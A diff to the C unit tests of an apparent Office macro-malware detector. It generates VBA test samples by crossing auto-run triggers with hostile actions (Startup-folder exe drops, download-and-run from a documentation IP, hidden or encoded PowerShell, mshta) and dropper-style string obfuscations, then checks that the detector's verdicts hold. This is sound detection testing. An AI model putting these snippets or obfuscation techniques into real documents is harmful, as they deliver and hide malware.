@@ -189,6 +189,137 @@ static void trigger_action_matrix(void **st)
     assert_string_equal(judge(inj), "doc.macro.injection");
 }
 
+/*
+ * The product: trigger x action x obfuscation.  An action is VBA text
+ * with its telling strings marked {like this}; each obfuscation rewrites
+ * every marked string the way droppers do, and the verdict must not move.
+ */
+enum obf { OBF_PLAIN, OBF_CHR, OBF_STRREV, OBF_CONCAT, OBF_REPLACE,
+           OBF_VAR, OBF_N };
+
+static void emit_obf(char *out, size_t cap, const char *s, size_t n,
+                     enum obf o, int *var, char *pre, size_t pcap)
+{
+    size_t k = strlen(out);
+    switch(o) {
+    case OBF_PLAIN:
+        k += (size_t)snprintf(out + k, cap - k, "\"%.*s\"", (int)n, s);
+        break;
+    case OBF_CHR:
+        for(size_t i = 0; i < n; i++)
+            k += (size_t)snprintf(out + k, cap - k, "%sChrW(%d + %d)",
+                                  i ? " & " : "", (unsigned char)s[i] - 7, 7);
+        if(!n)
+            k += (size_t)snprintf(out + k, cap - k, "\"\"");
+        break;
+    case OBF_STRREV:
+        k += (size_t)snprintf(out + k, cap - k, "StrReverse(\"");
+        for(size_t i = n; i > 0; i--)
+            out[k++] = s[i - 1];
+        out[k] = 0;
+        k += (size_t)snprintf(out + k, cap - k, "\")");
+        break;
+    case OBF_CONCAT:
+        for(size_t i = 0; i < n; i += 3)
+            k += (size_t)snprintf(out + k, cap - k, "%s\"%.*s\"",
+                                  i ? " + " : "", (int)(n - i < 3 ? n - i : 3),
+                                  s + i);
+        break;
+    case OBF_REPLACE:
+        k += (size_t)snprintf(out + k, cap - k, "Replace(\"");
+        for(size_t i = 0; i < n; i++) {
+            out[k++] = s[i];
+            if(i % 2) {
+                memcpy(out + k, "%~", 2);
+                k += 2;
+            }
+        }
+        out[k] = 0;
+        k += (size_t)snprintf(out + k, cap - k, "\", \"%%~\", \"\")");
+        break;
+    default: {      /* a constant assigned first */
+        size_t pk = strlen(pre);
+        snprintf(pre + pk, pcap - pk, "  Const k%d = \"%.*s\"\n", *var,
+                 (int)n, s);
+        k += (size_t)snprintf(out + k, cap - k, "k%d", (*var)++);
+        break;
+    }
+    }
+}
+
+static void expand(const char *body, enum obf o, char *out, size_t cap,
+                   char *pre, size_t pcap)
+{
+    int var = 0;
+    out[0] = 0;
+    pre[0] = 0;
+    for(const char *p = body; *p;) {
+        if(*p == '{') {
+            const char *e = strchr(p, '}');
+            emit_obf(out, cap, p + 1, (size_t)(e - p - 1), o, &var, pre, pcap);
+            p = e + 1;
+        } else {
+            size_t k = strlen(out);
+            out[k] = *p++;
+            out[k + 1] = 0;
+        }
+    }
+}
+
+static void matrix(void **st)
+{
+    (void)st;
+    const char *trig[] = { "Workbook_Open", "Auto_Open", "AutoOpen",
+        "Document_Open", "DocumentOpen", "AutoExec", "AutoClose",
+        "Auto_Close", "Document_Close", "Workbook_Activate",
+        "MultiPage1_Layout", "Frame1_Resize", "TextBox1_GotFocus",
+        "InkPicture1_Painted" };
+    static const struct { const char *body, *rule; } acts[] = {
+        { "  p = Environ({APPDATA}) & {\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\dwm.exe}\n"
+          "  Open p For Binary Access Write As #1\n  Put #1, , b\n",
+          "doc.macro.startup_drop" },
+        { "  Set s = CreateObject({ADODB.Stream})\n"
+          "  s.SaveToFile Environ({TEMP}) & {\\upd.exe}, 2\n",
+          "doc.macro.exe_drop" },
+        { "  Set f = CreateObject({Scripting.FileSystemObject})\n"
+          "  f.CopyFile {C:\\a.tmp}, {C:\\Users\\Public\\b.scr}\n",
+          "doc.macro.exe_drop" },
+        { "  Set x = CreateObject({MSXML2.ServerXMLHTTP})\n"
+          "  x.Open {GET}, {http://192.0.2.8/q}, False\n"
+          "  Shell {cmd /c start q}\n", "doc.macro.download_exec" },
+        { "  Set x = CreateObject({WinHttp.WinHttpRequest.5.1})\n"
+          "  CreateObject({WScript.Shell}).Run {powershell -w hidden x}\n",
+          "doc.macro.download_exec" },
+        { "  Shell {C:\\Users\\Public\\x.exe}, 0\n", "doc.macro.exe_run" },
+        { "  CreateObject({WScript.Shell}).Exec {mshta.exe http://x/y}\n",
+          "doc.macro.exe_run" },
+        { "  Set o = CreateObject({InternetExplorer.Application})\n",
+          "doc.macro.autoexec_download" },
+        { "  x = {powershell -nop -enc SQBFAFgA}\n",
+          "doc.macro.autoexec_run" },
+        { "  Set w = GetObject({winmgmts:}).Get({Win32_Process})\n"
+          "  w.Create {notepad}\n", "doc.macro.autoexec_run" },
+    };
+    static const char *const obf_names[] = { "plain", "chr", "strrev",
+        "concat", "replace", "const" };
+    char body[8192], pre[4096], src[16384];
+    for(size_t t = 0; t < sizeof(trig) / sizeof(trig[0]); t++)
+        for(size_t a = 0; a < sizeof(acts) / sizeof(acts[0]); a++)
+            for(int o = 0; o < OBF_N; o++) {
+                expand(acts[a].body, (enum obf)o, body, sizeof(body), pre,
+                       sizeof(pre));
+                snprintf(src, sizeof(src), "Sub %s()\n%s%sEnd Sub\n",
+                         trig[t], pre, body);
+                const char *got = judge(src);
+                if(getenv("VBS_SHOW") && t == 0)
+                    print_message("%s", src);
+                if(strcmp(got, acts[a].rule))
+                    print_error("%s x action %zu x %s: %s\n%s\n", trig[t], a,
+                                obf_names[o], got, src);
+                assert_string_equal(got, acts[a].rule);
+            }
+}
+
 static void benign_macros(void **st)
 {
     (void)st;
@@ -319,6 +450,7 @@ int main(void)
         cmocka_unit_test(triggers_with_startup_drop),
         cmocka_unit_test(obfuscated_startup_drop),
         cmocka_unit_test(trigger_action_matrix),
+        cmocka_unit_test(matrix),
         cmocka_unit_test(benign_macros),
         cmocka_unit_test(obfuscation_alone),
         cmocka_unit_test(xlm),
